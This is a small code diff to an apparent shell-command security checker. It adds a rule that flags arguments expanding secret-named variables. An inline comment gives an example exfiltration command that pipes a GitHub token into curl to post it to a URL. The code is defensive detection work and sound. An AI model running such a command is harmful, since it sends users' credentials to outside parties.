@@ -197,6 +197,8 @@ _ENV_HOSTS = frozenset({"node", "nodejs", "bun", "deno", "perl", "ruby", "php"})
 def _reads_secrets(cmd: SimpleCommand, place: Place) -> bool:
     if _exports_secrets(cmd):
         return True
+    if any("$" in a and _SECRET_VAR.search(a) is not None for a in cmd.argv[1:]):
+        return True  # echo "$GITHUB_TOKEN" | curl -d @- URL: a credential's value printed
     ops = operands(cmd.argv[1:]) if cmd.argv else []
     if not may_hold_secret(ops, place) and "/" not in ops and "." not in ops:
         return False
